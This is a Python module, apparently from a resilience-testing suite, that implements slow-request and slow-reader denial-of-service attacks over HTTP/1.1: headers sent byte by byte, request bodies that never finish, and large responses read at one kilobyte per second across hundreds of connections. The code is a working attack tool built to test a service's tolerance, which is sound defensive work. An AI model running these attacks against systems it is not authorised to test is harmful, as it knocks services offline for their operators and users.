"""Attacks by slow requests and slow readers, over HTTP/1.1."""

import asyncio
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager, suppress
from typing import NamedTuple

from resilience.attacks.attack import CONNECTIONS, Run
from resilience.attacks.bodies import MOST, SMALL
from resilience.attacks.connections import Connection, Field, connected, head, trusting
from resilience.attacks.posts import BINARY, DRAWINGS, PREDICTIONS

_GAP = 2.0  # seconds between two bytes
_UPLOADS = 300  # connections
_UNFINISHED, _MISSING = 180, 1000  # connections, and bytes at the end of each body that are never sent
_DRAWINGS, _DRAWING = 70, 2_000_000  # connections, and bytes of each image file
_FIRST = 20_000  # first bytes of a long body, sent at once: more than the buffer of the gateway
_READ_BUFFER, _READ_BYTES, _READ_SECONDS = 4096, 1024, 1.0

_TYPE: Field = ("Content-Type", BINARY)


class Upload(NamedTuple):
    """A request that never ends: fields of its head, then bytes at once, then one unit repeatedly."""

    fields: tuple[Field, ...]
    first: bytes
    unit: bytes = b"\0"
    connections: int = _UPLOADS
    path: str = PREDICTIONS


LENGTH = Upload((("Content-Length", str(MOST)),), bytes(_FIRST))
CHUNKED = Upload((("Transfer-Encoding", "chunked"),), b"4e20\r\n" + bytes(_FIRST) + b"\r\n", b"1\r\n\0\r\n")
SHORT = Upload((("Content-Length", str(SMALL)),), bytes(784))
UNFINISHED = Upload((("Content-Length", str(MOST)),), bytes(MOST - _MISSING), b"", _UNFINISHED)
DRAWING = Upload((("Content-Length", str(_DRAWING)),), bytes(_FIRST), connections=_DRAWINGS, path=DRAWINGS)


async def dribble(run: Run, upload: Upload) -> None:
    """Send uploads of one kind. An upload that is answered or cut off starts again on a new connection."""
    context = trusting(run.victim.authority)

    async def once(index: int) -> None:
        begin = head(upload.path, (_TYPE, run.victim.authorization(index), *upload.fields)) + upload.first
        async with connected(run.victim, context) as connection, _dribbling(connection, begin, upload.unit):
            run.answers[await connection.answer()] += 1

    await run.repeat(upload.connections, once)


async def heads(run: Run, _: None) -> None:
    """Send the head of each request byte by byte."""
    context, begin = trusting(run.victim.authority), head(PREDICTIONS, (_TYPE,))[:-2] + b"X: "

    async def once(_: int) -> None:
        async with connected(run.victim, context) as connection, _dribbling(connection, begin, b"a"):
            run.answers[await connection.answer()] += 1

    await run.repeat(_UPLOADS, once)


async def reads(run: Run, requests: Sequence[bytes]) -> None:
    """Read large answers at one kilobyte per second."""
    context = trusting(run.victim.authority)

    async def once(index: int) -> None:
        async with connected(run.victim, context, _READ_BUFFER, _READ_BYTES) as connection:
            await connection.send(requests[index % len(requests)])
            run.answers[(await connection.reader.readexactly(12)).decode()[-3:]] += 1
            while await connection.reader.read(_READ_BYTES):
                await asyncio.sleep(_READ_SECONDS)

    await run.repeat(CONNECTIONS, once)


@asynccontextmanager
async def _dribbling(connection: Connection, begin: bytes, unit: bytes) -> AsyncIterator[None]:
    """Send the beginning, then ``unit`` every 2 s until the block ends."""

    async def keep_sending() -> None:
        await connection.send(begin)
        while unit:
            await asyncio.sleep(_GAP)
            await connection.send(unit)

    task = asyncio.create_task(keep_sending())
    try:
        yield
    finally:
        task.cancel()
        with suppress(OSError, asyncio.CancelledError):
            await task
